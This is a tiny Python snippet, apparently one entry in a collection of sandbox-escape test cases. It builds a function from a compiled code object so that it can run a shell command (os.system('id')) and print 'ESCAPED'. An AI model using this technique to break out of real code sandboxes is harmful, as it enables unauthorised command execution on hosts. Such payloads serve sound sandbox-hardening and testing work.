# class: a function built from a compiled code object (types.FunctionType)
c = compile("import os\nos.system('id')", "x", "exec")
F = type(lambda: 0)
print("ESCAPED", F(c, {})())
